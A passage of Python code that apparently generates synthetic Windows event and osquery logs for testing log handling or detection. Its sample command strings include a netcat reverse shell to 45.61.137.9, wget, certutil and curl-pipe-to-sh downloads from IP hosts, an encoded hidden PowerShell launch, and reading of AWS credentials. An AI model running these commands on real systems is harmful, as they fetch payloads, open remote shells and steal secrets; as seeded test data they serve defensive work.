            "Component Services administrative tool.",
            {"param1": "application-specific", "param10": "Unavailable", "param11": "Unavailable",
             "param2": "Local", "param3": "Activation", "param4": "{clsid}", "param5": "{appid}",
             "param6": "{dcom_dom}", "param7": "{dcom_name}", "param8": "{dcom_sid}",
             "param9": "LocalHost (Using LRPC)"}, keywords=["Classic"]),
        wlb(9, "1014", "System", "Microsoft-Windows-DNS-Client", "{task_code}", "warning",
            "Name resolution for the name {qname} timed out after none of the configured DNS servers "
            "responded.", {"Address": "{dns_addr_hex}", "AddressLength": "{addr_len}", "QueryName": "{qname}"}),
        wlb(6, "1000", "Application", "Application Error", "Application Crashing Events", "error",
            "Faulting application name: {app}, version: {app_ver}, time stamp: {app_ts}\nFaulting module "
            "name: {mod}, version: {mod_ver}, time stamp: {mod_ts}\nException code: {exc_code}\n"
            "Fault offset: {fault_off}\nFaulting process id: {fault_pid}\nFaulting application start time: "
            "{app_start}\nFaulting application path: {app_path}\nFaulting module path: {mod_path}\n"
            "Report Id: {report_id}\nFaulting package full name: \nFaulting package-relative application ID: ",
            {"param1": "{app}", "param10": "{app_start}", "param11": "{app_path}", "param12": "{mod_path}",
             "param13": "{report_id}", "param2": "{app_ver}", "param3": "{app_ts}", "param4": "{mod}",
             "param5": "{mod_ver}", "param6": "{mod_ts}", "param7": "{exc_code}", "param8": "{fault_off}",
             "param9": "{fault_pid}"}, keywords=["Classic"]),
        wlb(25, "16384", "Application", "Microsoft-Windows-Security-SPP", "None", "information",
            "Successfully scheduled Software Protection service for re-start at {spp_ts}. Reason: RulesEngine.",
            {"param1": "{spp_ts}", "param2": "RulesEngine"}, keywords=["Classic"]),
        wlb(3, "11707", "Application", "MsiInstaller", "None", "information",
            "Product: {product} -- Installation completed successfully.", {"param1": "{product_msg}"},
            keywords=["Classic"]),
        wlb(1, "11708", "Application", "MsiInstaller", "None", "error",
            "Product: {product} -- Installation failed.", {"param1": "{product_msg_fail}"}, keywords=["Classic"]),
    ]
    return specs


def make_winlogbeat(rng: random.Random) -> list[dict]:
    specs = winlogbeat_specs()
    clock = Clock(rng, 1.6)
    domain, realm = rng.choice([("CORP", "CORP.EXAMPLE.COM"), ("ACME", "ACME.LOCAL"), ("CONTOSO", "CONTOSO.COM")])
    dom_sid = f"S-1-5-21-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**8, 10**9)}"
    dcs = ["DC01", "DC02"]
    others = ["WS-0142", "WS-0217", "WS-0388", "WS-1021", "LT-FIN-044", "SRV-FILE01", "SRV-SQL02",
              "SRV-APP03", "EXCH01", "RDS01", "SRV-WSUS01"]
    allhosts = dcs + others
    agent = {h: (uuid4(rng), uuid4(rng), rng.choice(["8.13.2", "8.13.2", "8.12.1", "8.11.4"]))
             for h in allhosts}
    host_any = Z(rng, allhosts, 1.0)
    host_dc = Z(rng, dcs, 1.0)
    people = ["jsmith", "adoe", "mchen", "kpatel", "lgarcia", "tnguyen", "rwilliams", "ebrown", "hlee",
              "oyilmaz", "fmueller", "svc_backup", "svc_sql", "svc_iis", "administrator", "helpdesk01",
              "scanner", "svc_veeam"]
    rid = {u: 1100 + i * 7 + rng.randint(0, 6) for i, u in enumerate(people)}
    rid["administrator"] = 500
    user_p = Z(rng, people, 1.1)
    svc_p = Z(rng, [("Windows Update", "wuauserv"), ("Background Intelligent Transfer Service", "BITS"),
                    ("WinHTTP Web Proxy Auto-Discovery Service", "WinHttpAutoProxySvc"),
                    ("Windows Modules Installer", "TrustedInstaller"), ("Print Spooler", "Spooler"),
                    ("Microsoft Defender Antivirus Service", "WinDefend"), ("Windows Time", "W32Time"),
                    ("Software Protection", "sppsvc"), ("Volume Shadow Copy", "VSS"),
                    ("SQL Server (MSSQLSERVER)", "MSSQLSERVER"), ("Remote Registry", "RemoteRegistry"),
                    ("Windows Event Log", "EventLog"), ("Elastic Agent", "Elastic Agent"),
                    ("Device Setup Manager", "DsmSvc"), ("Update Orchestrator Service", "UsoSvc")], 1.1)
    ws_p = Z(rng, others + ["-", "KALI", "DESKTOP-7H2KQ9L"], 1.0)
    ext_ip = Z(rng, ip_pool(rng, 6), 1.0)
    int_ip = Z(rng, ip_pool(rng, 30, "10.20"), 1.1)
    lt_p = Z(rng, [("3", "Network"), ("2", "Interactive"), ("10", "RemoteInteractive"), ("5", "Service"),
                   ("7", "Unlock"), ("11", "CachedInteractive"), ("4", "Batch")], 1.6, shuffle=False)
    auth_p = Z(rng, [("Kerberos", "Kerberos"), ("NtLmSsp ", "NTLM"), ("Negotiate", "Negotiate"),
                     ("User32 ", "Negotiate"), ("Advapi  ", "Negotiate")], 1.3, shuffle=False)
    proc_p = Z(rng, ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
                     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "C:\\Windows\\System32\\conhost.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\System32\\taskhostw.exe",
                     "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\net.exe",
                     "C:\\Windows\\System32\\whoami.exe", "C:\\Windows\\System32\\sc.exe",
                     "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                     "C:\\Users\\Public\\Downloads\\update.exe", "C:\\Windows\\System32\\certutil.exe"], 1.1)
    cmd_for = {"svchost.exe": ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                        "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p"],
        "cmd.exe": ["\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\Scripts\\backup.bat\"",
                    "cmd.exe /c whoami /all", "C:\\Windows\\system32\\cmd.exe /c ipconfig /all"],
        "powershell.exe": ["powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\agent\\check.ps1",
                           "\"powershell.exe\" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"],
        "net.exe": ["net  user /domain", "net  group \"Domain Admins\" /domain"],
        "certutil.exe": ["certutil.exe -urlcache -split -f http://185.220.101.4/a.exe C:\\Users\\Public\\a.exe"],
    }
    privs_p = Z(rng, ["SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege"
                      "\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeLoadDriverPrivilege"
                      "\n\t\t\tSeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege\n\t\t\tSeEnableDelegationPrivilege",
                      "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\tSeSecurityPrivilege\n\t\t\tSeTakeOwnershipPrivilege"
                      "\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege"
                      "\n\t\t\tSeAuditPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeImpersonatePrivilege",
                      "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege"], 1.0)
    fail_p = Z(rng, [("Unknown user name or bad password.", "%%2313", "0xc000006d", "0xc000006a"),
                     ("Unknown user name or bad password.", "%%2313", "0xc000006d", "0xc0000064"),
                     ("Account locked out.", "%%2307", "0xc0000234", "0x0"),
                     ("The user has not been granted the requested logon type at this machine.", "%%2308",
                      "0xc000015b", "0x0"),
                     ("Account currently disabled.", "%%2310", "0xc0000072", "0x0")], 1.3, shuffle=False)
    st_txt = {"0xc000006d": "This is either due to a bad username or authentication information",
              "0xc0000234": "Account locked out", "0xc000015b": "User not granted logon type",
              "0xc0000072": "Account disabled", "0xc000006a": "User logon with misspelled or bad password",
              "0xc0000064": "User logon with misspelled or bad user account", "0x0": "Status OK."}
    app_p = Z(rng, [("OUTLOOK.EXE", "16.0.17328.20162"), ("chrome.exe", "124.0.6367.91"),
                    ("explorer.exe", "10.0.19041.4291"), ("sqlservr.exe", "2022.160.4115.5"),
                    ("w3wp.exe", "10.0.20348.1"), ("Teams.exe", "1.7.0.3653")], 1.1)
    mod_p = Z(rng, ["ntdll.dll", "KERNELBASE.dll", "ucrtbase.dll", "clr.dll", "mso20win32client.dll",
                    "ntdll.dll"], 1.1)
    q_p = Z(rng, ["wpad.corp.example.com", "login.microsoftonline.com", "settings-win.data.microsoft.com",
                  "fileserver01", "time.windows.com", "ctldl.windowsupdate.com", "_ldap._tcp.dc._msdcs.corp"], 1.1)
    spn_p = Z(rng, ["krbtgt", "SRV-FILE01$", "SRV-SQL02$", "MSSQLSvc", "EXCH01$", "DC01$", "HTTP", "cifs"], 1.1)
    prod_p = Z(rng, ["Microsoft Edge", "Google Chrome", "Microsoft Visual C++ 2015-2022 Redistributable (x64)",
                     "7-Zip 23.01 (x64 edition)", "Elastic Agent"], 1.1)
    fqdn_suffix = "." + realm.lower()
    rec = {}

    def row_vals(s: Spec) -> dict:
        t = clock.tick(rng)
        host = host_dc(rng) if s.meta["hosts"] == "dc" else host_any(rng)
        eid, aid, bver = agent[host]
        key = (host, s.meta["channel"])
        rec[key] = rec.get(key, rng.randint(10**5, 9 * 10**6)) + rng.randint(1, 40)
        su = user_p(rng)
        tu = user_p(rng)
        machine = rng.random() < 0.35
        s_user, s_sid, s_logon = (host + "$", "S-1-5-18", "0x3e7") if machine else \
            (su, f"{dom_sid}-{rid[su]}", f"0x{rng.randint(0x10000, 0xfffffff):x}")
        lt, ltn = lt_p(rng)
        lproc, apkg = auth_p(rng)
        fr, fcode, st, sst = fail_p(rng)
        name, short = svc_p(rng)
        newp = proc_p(rng)
        pname = newp.rsplit("\\", 1)[1]
        cmd = rng.choice(cmd_for.get(pname, [newp]))
        st_from, st_to = rng.sample(["auto start", "demand start", "disabled"], 2)
        app, aver = app_p(rng)
        ip = ext_ip(rng) if rng.random() < 0.08 else int_ip(rng)
        prov = s.meta["provider"]
        new_pid = rng.randint(400, 20000) & ~3
        dn = rng.choice(["NT AUTHORITY", domain])
        dname = rng.choice(["SYSTEM", "LOCAL SERVICE"]) if dn == "NT AUTHORITY" else su
        prod = prod_p(rng)
        elev = rng.random() < 0.6
        tet = rng.choice([("%%1936", "TokenElevationTypeDefault (1)"), ("%%1937", "TokenElevationTypeFull (2)"),
                          ("%%1938", "TokenElevationTypeLimited (3)")])
        return {"ts": iso_ms(t), "created": iso_ms(t + timedelta(milliseconds=rng.randint(150, 4000))),
            "agent_eid": eid, "agent_id": aid, "beat_ver": bver, "ecs_ver": "8.0.0", "host": host,
            "host_l": host.lower(), "fqdn": host + fqdn_suffix, "record_id": str(rec[key]),
            "pid": 4 if s.meta["channel"] == "System" and prov == "Microsoft-Windows-Kernel-Power" else
            rng.choice([652, 668, 700, 732, 788]), "tid": rng.randint(100, 12000) & ~3,
            "prov_guid": PROV_GUID.get(prov, ""), "task_code": f"({s.meta['code'] if s.meta['code'] != '41' else 63})",
            "s_user": s_user, "s_sid": s_sid, "s_domain": domain, "s_logon": s_logon,
            "t_user": tu, "t_sid": f"{dom_sid}-{rid[tu]}", "t_domain": domain,
            "t_logon": f"0x{rng.randint(0x10000, 0xfffffff):x}", "logon_type": lt, "logon_type_name": ltn,
            "ram": "-", "virt": "%%1843", "virt_txt": "No", "elev": "%%1842" if elev else "%%1843",
            "elev_txt": "Yes" if elev else "No", "imp": "%%1833", "imp_txt": "Impersonation",
            "linked": "0x0", "out_user": "-", "out_dom": "-",
            "logon_guid": "{" + (uuid4(rng) if apkg == "Kerberos" else "00000000-0000-0000-0000-000000000000") + "}",
            "null_guid": "{00000000-0000-0000-0000-000000000000}", "proc_id": "0x0" if lt == "3" else
            f"0x{rng.randint(0x200, 0x2000):x}", "proc_name": "-" if lt == "3" else "C:\\Windows\\System32\\lsass.exe",
            "workstation": ws_p(rng), "src_ip": ip, "src_port": str(0 if lt == "3" and rng.random() < 0.5 else eport(rng)),
            "logon_proc": lproc, "auth_pkg": apkg, "trans": "-", "lm": "NTLM V2" if apkg == "NTLM" else "-",
            "keylen": "128" if apkg == "NTLM" else "0", "null_sid": "S-1-0-0", "fail_reason": fr,
            "fail_code": fcode, "status": st, "sub_status": sst, "status_txt": st_txt[st],
            "sub_status_txt": st_txt[sst], "privs": privs_p(rng),
            "target_server": rng.choice(["localhost", "SRV-FILE01." + realm.lower(), "DC01." + realm.lower()]),
            "target_info": rng.choice(["localhost", "HOST/SRV-FILE01." + realm.lower()]),
            "zero_id": "0x0", "new_pid": f"0x{new_pid:x}", "new_pid_dec": new_pid, "new_proc": newp,
            "new_proc_name": pname, "tet": tet[1], "tet_code": tet[0],
            "mlabel": rng.choice(["S-1-16-12288", "S-1-16-8192", "S-1-16-16384"]),
            "parent_pid": f"0x{rng.randint(0x100, 0x4000) & ~3:x}",
            "parent_proc": rng.choice(["C:\\Windows\\System32\\services.exe", "C:\\Windows\\explorer.exe",
                                       "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\svchost.exe"]),
            "cmdline": cmd,
            "display": tu.replace("_", " ").title(), "upn": f"{tu}@{realm}", "pgid": "513",
            "old_uac": "0x0", "new_uac": "0x15", "member_dn": f"CN={tu.title()},OU=Users,DC={domain.lower()},DC=local",
            "g_sid": rng.choice(["S-1-5-32-544", "S-1-5-32-555", "S-1-5-32-580"]),
            "group": rng.choice(["Administrators", "Remote Desktop Users", "Remote Management Users"]),
            "realm": realm, "krbtgt_sid": f"{dom_sid}-502", "client_addr": "::ffff:" + ip,
            "tkt_opts": rng.choice(["0x40810010", "0x40810000", "0x60810010", "0x40800000"]),
            "result": "0x0", "enc": rng.choice(["0x12", "0x12", "0x17"]), "preauth": rng.choice(["2", "15"]),
            "svc_acct": spn_p(rng), "svc_sid": f"{dom_sid}-{rng.randint(1000, 3000)}",
                        "err_code": rng.choice(["0x0", "0x0", "0x0", "0xc000006a", "0xc0000064"]),
            "svc_name": name, "svc_short": short, "svc_bin_run": (short + "/4").encode("utf-16-le").hex().upper(),
            "svc_bin_stop": (short + "/1").encode("utf-16-le").hex().upper(), "st_from": st_from, "st_to": st_to,
            "new_svc": rng.choice(["PSEXESVC", "AteraAgent", "Sysmon64", "svc" + hexs(rng, 6), "WinRing0_1_2_0"]),
            "svc_path": rng.choice(["%SystemRoot%\\PSEXESVC.exe", "C:\\Windows\\Sysmon64.exe",
                                    "C:\\Windows\\Temp\\" + hexs(rng, 8) + ".exe",
                                    "\"C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe\""]),
            "start_type": rng.choice(["demand start", "auto start"]), "svc_account": "LocalSystem",
            "n_times": str(rng.randint(1, 4)), "ms": str(rng.choice([60000, 30000, 120000, 0])),
            "action_no": "1", "err_ins": "%%1053",
            "shut_time": f"{rng.randint(1, 12)}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d} {rng.choice(['AM', 'PM'])}",
            "shut_date": f"{t.month}/{t.day}/{t.year}", "shut_bin": hexs(rng, 64).upper(),
            "evlog_bin": hexs(rng, 16).upper() + "0000", "bugcheck": "0", "bcp1": "0x0", "zero": "0",
            "clsid": "{" + rng.choice(["C2F03A33-21F5-47FA-B4BB-156362A2F239", "D63B10C5-BB46-4990-A94F-E40B9D520160",
                                       "2593F8B9-4EAF-457C-B68A-50F6B8EA6B54"]) + "}",
            "appid": "{" + rng.choice(["316CDED5-E4AE-4B15-9113-7055D84DCC97", "9CA88EE3-ACB7-47C8-AFC4-AB702511C276",
                                       "15C20B67-12E7-4BB6-92BB-7AFF07997402"]) + "}",
            "dcom_user": dn + "\\" + dname, "dcom_dom": dn, "dcom_name": dname,
            "dcom_sid": "S-1-5-18" if dname == "SYSTEM" else ("S-1-5-19" if dname == "LOCAL SERVICE"
                                                                 else f"{dom_sid}-{rid[su]}"),
            "qname": q_p(rng), "dns_addr_hex": "0200003" + hexs(rng, 9).upper(), "addr_len": "128",
            "app": app, "app_ver": aver, "app_ts": hexs(rng, 8), "mod": mod_p(rng),
            "mod_ver": f"10.0.19041.{rng.randint(1000, 4500)}", "mod_ts": hexs(rng, 8),
            "exc_code": rng.choice(["0xc0000005", "0xc0000409", "0xe0434352", "0xc0000374"]),
            "fault_off": f"0x{rng.getrandbits(40):016x}", "fault_pid": f"0x{rng.randint(0x100, 0x8000):x}",
            "app_start": f"0x{rng.getrandbits(56):016x}",
            "app_path": "C:\\Program Files\\" + rng.choice(["Microsoft Office\\root\\Office16\\", "Google\\Chrome\\Application\\", ""]) + app,
            "mod_path": "C:\\Windows\\SYSTEM32\\" + mod_p(rng), "report_id": uuid4(rng),
            "spp_ts": (t + timedelta(days=rng.randint(1, 7))).strftime("%Y-%m-%dT%H:%M:%S.") + f"{rng.randint(0, 9999999):07d}Z",
            "product": prod, "product_msg": f"Product: {prod} -- Installation completed successfully.",
            "product_msg_fail": f"Product: {prod} -- Installation failed.",
        }

    return generate(rng, specs, row_vals, jesc)


# =========================================================================== 2 osquery
OSQ_SEV = {"0": "INFO", "1": "WARN", "2": "ERROR", "3": "FATAL"}


def _osq_cols(cols):
    """Column name -> placeholder; a leading "=" marks a column that is always "" for that query."""
    out = {}
    for c in sorted(cols, key=lambda c: c.lstrip("=")):
        out[c.lstrip("=")] = "" if c.startswith("=") else "{c_" + c + "}"
    return out


def _osq_result(weight, name, cols, action):
    obj = {"name": name, "hostIdentifier": "{hid}", "calendarTime": "{cal}", "unixTime": "#unix#",
           "epoch": "#epoch#", "counter": "#counter#", "numerics": False,
           "decorations": {"host_uuid": "{host_uuid}", "hostname": "{hid}", "username": "{deco_user}"},
           "columns": _osq_cols(cols), "action": action}
    return Spec(weight, "-", jfmt(obj), {"kind": "result", "name": name})


def _osq_snapshot(weight, name, cols):
    obj = {"snapshot": [_osq_cols(cols)], "action": "snapshot", "name": name,
           "hostIdentifier": "{hid}", "calendarTime": "{cal}", "unixTime": "#unix#", "epoch": "#epoch#",
           "counter": "#counter#", "numerics": False,
           "decorations": {"host_uuid": "{host_uuid}", "hostname": "{hid}", "username": "{deco_user}"}}
    return Spec(weight, "-", jfmt(obj), {"kind": "result", "name": name})


def _osq_status(weight, sev, filename, message):
    obj = {"hostIdentifier": "{hid}", "calendarTime": "{cal}", "unixTime": "{unix}", "severity": sev,
           "filename": filename, "line": "{lineno}", "message": message, "version": "{osq_ver}",
           "decorations": {"host_uuid": "{host_uuid}", "hostname": "{hid}", "username": "{deco_user}"}}
    return Spec(weight, OSQ_SEV[sev], jfmt(obj), {"kind": "status", "name": filename})


OSQ_QUERIES = {"pack_incident-response_listening_ports": ["address", "family", "fd", "name", "=path", "pid", "port",
                                               "protocol", "socket"],
    "pack_incident-response_process_events": ["auid", "cmdline", "cwd", "egid", "euid", "gid", "parent",
                                              "path", "pid", "time", "uid"],
    "pack_incident-response_logged_in_users": ["host", "pid", "time", "tty", "type", "user"],
    "pack_incident-response_crontab": ["command", "day_of_month", "day_of_week", "=event", "hour", "minute",
                                       "month", "path"],
    "pack_incident-response_open_sockets": ["family", "fd", "local_address", "local_port", "=path", "pid",
                                            "protocol", "remote_address", "remote_port", "socket", "state"],
    "pack_it-compliance_deb_packages": ["arch", "name", "revision", "source", "version"],
    "pack_incident-response_kernel_modules": ["address", "name", "size", "status", "used_by"],
    "pack_it-compliance_users": ["=description", "directory", "gid", "shell", "uid", "username", "=uuid"],
    "pack_incident-response_shell_history": ["command", "history_file", "time", "uid"],
    "pack_fim_file_events": ["action", "atime", "category", "ctime", "gid", "hashed", "inode", "md5", "mode",
                             "mtime", "sha256", "size", "target_path", "time", "transaction_id", "uid"],
}


def osquery_specs() -> list[Spec]:
    q = OSQ_QUERIES
    specs = [
        _osq_result(330, "pack_incident-response_open_sockets", q["pack_incident-response_open_sockets"], "added"),
        _osq_result(300, "pack_incident-response_open_sockets", q["pack_incident-response_open_sockets"], "removed"),
        _osq_result(420, "pack_incident-response_process_events", q["pack_incident-response_process_events"], "added"),
        _osq_result(110, "pack_fim_file_events", q["pack_fim_file_events"], "added"),
        _osq_result(60, "pack_incident-response_logged_in_users", q["pack_incident-response_logged_in_users"], "added"),
        _osq_result(55, "pack_incident-response_logged_in_users", q["pack_incident-response_logged_in_users"], "removed"),
        _osq_result(35, "pack_incident-response_listening_ports", q["pack_incident-response_listening_ports"], "added"),
        _osq_result(30, "pack_incident-response_listening_ports", q["pack_incident-response_listening_ports"], "removed"),
        _osq_result(40, "pack_incident-response_shell_history", q["pack_incident-response_shell_history"], "added"),
        _osq_result(12, "pack_it-compliance_deb_packages", q["pack_it-compliance_deb_packages"], "added"),
        _osq_result(10, "pack_it-compliance_deb_packages", q["pack_it-compliance_deb_packages"], "removed"),
        _osq_result(3, "pack_incident-response_crontab", q["pack_incident-response_crontab"], "added"),
        _osq_result(2, "pack_incident-response_crontab", q["pack_incident-response_crontab"], "removed"),
        _osq_result(3, "pack_incident-response_kernel_modules", q["pack_incident-response_kernel_modules"], "added"),
        _osq_result(1.5, "pack_incident-response_kernel_modules", q["pack_incident-response_kernel_modules"], "removed"),
        _osq_result(2, "pack_it-compliance_users", q["pack_it-compliance_users"], "added"),
        _osq_result(1, "pack_it-compliance_users", q["pack_it-compliance_users"], "removed"),
        _osq_snapshot(6, "pack_osquery-monitoring_osquery_info",
                      ["build_distro", "build_platform", "config_hash", "config_valid", "extensions",
                       "instance_id", "pid", "start_time", "uuid", "version", "watcher"]),
        _osq_status(80, "0", "scheduler.cpp", "Executing scheduled query {qname}: {sql}"),
        _osq_status(20, "0", "scheduler.cpp", "Found results for query: {qname}"),
        _osq_status(3, "0", "init.cpp", "osqueryd started [version={osq_ver}]"),
        _osq_status(6, "0", "events.cpp", "Expiring events for subscriber: {sub} (overflowed limit {limit})"),
        _osq_status(8, "1", "scheduler.cpp", "Scheduled query may have failed: {qname}"),
        _osq_status(5, "1", "watcher.cpp", "osqueryd worker ({wpid}) stopping: Maximum sustainable CPU "
                    "utilization limit exceeded: {cpu}"),
        _osq_status(3, "1", "watcher.cpp", "osqueryd worker ({wpid}) stopping: Memory limits exceeded: {mem}"),
        _osq_status(4, "2", "scheduler.cpp", "Error executing scheduled query {qname}: {err}"),
        _osq_status(5, "2", "tls.cpp", "TLS/HTTPS POST request to URI: {uri} failed: {tls_err}"),
        _osq_status(1, "2", "auditdnetlink.cpp", "Failed to set the netlink owner"),
    ]
    return specs


def make_osquery(rng: random.Random) -> list[dict]:
    specs = osquery_specs()
    clock = Clock(rng, 2.0)
    hosts = ["web-01", "web-02", "web-03", "db-01", "db-02", "bastion-01", "ci-runner-07", "k8s-node-a1",
             "k8s-node-a2", "mail-01", "vpn-gw-01", "jenkins-01"]
    hp = Z(rng, hosts, 1.0)
    huuid = {h: uuid4(rng).upper() for h in hosts}
    ver = {h: rng.choice(["5.12.1", "5.12.1", "5.11.0", "5.10.2"]) for h in hosts}
    counters: dict = {}
    users = Z(rng, ["root", "ubuntu", "deploy", "alice", "bob", "jenkins", "postgres", "www-data", "carol"], 1.2)
    uid_of = {"root": 0, "ubuntu": 1000, "deploy": 1001, "alice": 1002, "bob": 1003, "jenkins": 112,
              "postgres": 113, "www-data": 33, "carol": 1004}
    procs = Z(rng, [("/usr/bin/curl", "curl -fsSL https://get.example.com/install.sh"),
                    ("/usr/bin/bash", "/bin/bash -c /opt/app/healthcheck.sh"),
                    ("/usr/bin/python3.11", "python3 /opt/app/worker.py --queue default"),
                    ("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/git", "git pull --ff-only"),
                    ("/usr/bin/sudo", "sudo systemctl restart nginx"), ("/usr/bin/ssh", "ssh -p 2222 deploy@10.10.4.21"),
                    ("/usr/bin/cat", "cat /etc/passwd"), ("/usr/sbin/cron", "/usr/sbin/CRON -f -P"),
                    ("/usr/bin/wget", "wget -q http://185.220.101.7/x -O /tmp/.x"),
                    ("/usr/bin/nc", "nc -e /bin/sh 45.61.137.9 4444"), ("/usr/bin/apt-get", "apt-get -y upgrade"),
                    ("/usr/bin/find", "find / -perm -4000 -type f")], 1.1)
    remote = Z(rng, ip_pool(rng, 25) + ["10.10.4.21", "10.10.0.2", "127.0.0.1"], 1.1)
    lports = Z(rng, [22, 80, 443, 5432, 3306, 6379, 9100, 8080, 25, 53, 111, 31337], 1.2, shuffle=False)
    rports = Z(rng, [443, 80, 53, 22, 5432, 123, 8443, 4444, 9200], 1.3, shuffle=False)
    pkgs = Z(rng, [("openssl", "3.0.11-1~deb12u2", "amd64"), ("curl", "7.88.1-10+deb12u5", "amd64"),
                   ("linux-image-6.1.0-21-amd64", "6.1.90-1", "amd64"), ("tzdata", "2024a-0+deb12u1", "all"),
                   ("nginx", "1.22.1-9", "amd64"), ("netcat-traditional", "1.10-47", "amd64"),
                   ("python3-urllib3", "1.26.12-1", "all")], 1.1)
    fim = Z(rng, [("/etc/passwd", "etc"), ("/etc/shadow", "etc"), ("/etc/hosts", "etc"),
                  ("/etc/ssh/sshd_config", "etc"), ("/usr/bin/ls", "binaries"), ("/root/.ssh/authorized_keys", "root"),
                  ("/etc/crontab", "etc"), ("/var/www/html/index.php", "www"), ("/tmp/.x", "tmp")], 1.1)
    qnames = Z(rng, list(OSQ_QUERIES), 1.0)
    sql = {n: f"SELECT * FROM {n.split('_', 2)[-1]};" for n in OSQ_QUERIES}
    errs = Z(rng, ["no such table: secureboot", "database or disk is full", "Timed out waiting for results",
                   "no such column: cmdline_size"], 1.0)
    tls_errs = Z(rng, ["Request error: Failed to connect to fleet.example.com port 443: Connection refused",
                       "Request error: Connection timed out", "Request error: certificate verify failed"], 1.0)

    def row_vals(s: Spec) -> dict:
        t = clock.tick(rng)
        h = hp(rng)
        key = (h, s.meta["name"])
        counters[key] = counters.get(key, rng.randint(0, 300)) + (1 if rng.random() < 0.5 else 0)
        unix = int(t.timestamp())
        user = users(rng)
        exe, cmd = procs(rng)
        pid = rng.randint(300, 4194304) if rng.random() < 0.3 else rng.randint(300, 65000)
        lp = lports(rng)
        pk, pv, pa = pkgs(rng)
        fpath, fcat = fim(rng)
        qn = qnames(rng)
        nu = rng.choice(["backup", "svc-monitor", "mallory", "temp"])
        fsize = rng.randint(120, 90000)
        v = {"hid": h, "cal": f"{ctime_str(t)} UTC", "unix": unix, "epoch": 0, "counter": counters[key],
            "host_uuid": huuid[h], "deco_user": user, "osq_ver": ver[h], "lineno": rng.randint(40, 900),
            "qname": qn, "sql": sql[qn], "sub": rng.choice(["process_events", "socket_events", "file_events",
                                                             "user_events"]),
            "limit": rng.choice([50000, 100000]), "wpid": rng.randint(1000, 60000), "cpu": rng.randint(11, 100),
            "mem": rng.randint(200, 900) * 1048576 + rng.randint(0, 1048575),
            "err": errs(rng), "uri": "https://fleet.example.com/api/osquery/log", "tls_err": tls_errs(rng),
            # columns (numerics=false: all strings)
            "c_address": rng.choice(["0.0.0.0", "127.0.0.1", "::", "10.10.2.14"]), "c_family": rng.choice(["2", "2", "10"]),
            "c_fd": str(rng.randint(3, 300)), "c_name": rng.choice(["sshd", "nginx", "postgres", "redis-server",
                                                                     "node_exporter", "nc"]),
            "c_path": exe, "c_pid": str(pid), "c_port": str(lp), "c_protocol": rng.choice(["6", "6", "17"]),
            "c_socket": str(rng.randint(10000, 9999999)), "c_auid": str(uid_of[user]), "c_cmdline": cmd,
            "c_cwd": rng.choice(["/", "/root", f"/home/{user}", "/opt/app", "/tmp"]),
            "c_egid": str(uid_of[user]), "c_euid": str(uid_of[user]), "c_gid": str(uid_of[user]),
            "c_parent": str(rng.randint(1, 65000)), "c_time": str(unix - rng.randint(0, 60)),
            "c_uid": str(uid_of[user]), "c_host": remote(rng), "c_tty": rng.choice(["pts/0", "pts/1", "pts/2", "tty1"]),
            "c_type": "user", "c_user": user,
            "c_command": rng.choice(["/usr/local/bin/backup.sh >/dev/null 2>&1", "curl -s http://45.61.137.9/p.sh | sh",
                                     "/usr/bin/certbot renew -q", "sudo -l", "cat ~/.aws/credentials",
                                     "history -c", "ssh-keygen -t ed25519"]),
            "c_day_of_month": "*", "c_day_of_week": "*", "c_hour": str(rng.randint(0, 23)),
            "c_minute": str(rng.choice([0, 5, 15, 30, 45])), "c_month": "*",
            "c_local_address": rng.choice(["10.10.2.14", "10.10.3.7", "172.17.0.1"]),
            "c_local_port": str(eport(rng)), "c_remote_address": remote(rng), "c_remote_port": str(rports(rng)),
            "c_state": rng.choice(["ESTABLISHED", "ESTABLISHED", "TIME_WAIT", "CLOSE_WAIT", "SYN_SENT"]),
            "c_arch": pa, "c_revision": pv.split("-")[-1], "c_source": pk.split("-")[0], "c_version": pv,
            "c_size": str(rng.randint(16384, 900000)), "c_status": "Live",
            "c_used_by": rng.choice(["-", "nft_chain_nat,nft_compat", "xt_conntrack"]),
            "c_directory": f"/home/{nu}", "c_shell": rng.choice(["/bin/bash", "/usr/sbin/nologin"]),
            "c_username": nu, "c_history_file": f"/home/{user}/.bash_history",
            "c_action": rng.choice(["UPDATED", "UPDATED", "CREATED", "DELETED", "ATTRIBUTES_MODIFIED"]),
            "c_atime": str(unix - rng.randint(0, 9999)), "c_category": fcat, "c_ctime": str(unix),
            "c_hashed": "1", "c_inode": str(rng.randint(100000, 9000000)), "c_md5": hexs(rng, 32),
            "c_mode": rng.choice(["0644", "0640", "0755", "0600"]), "c_mtime": str(unix),
            "c_sha256": hexs(rng, 64), "c_target_path": fpath, "c_transaction_id": "0",
            "c_build_distro": "centos7", "c_build_platform": "linux", "c_config_hash": hexs(rng, 40),
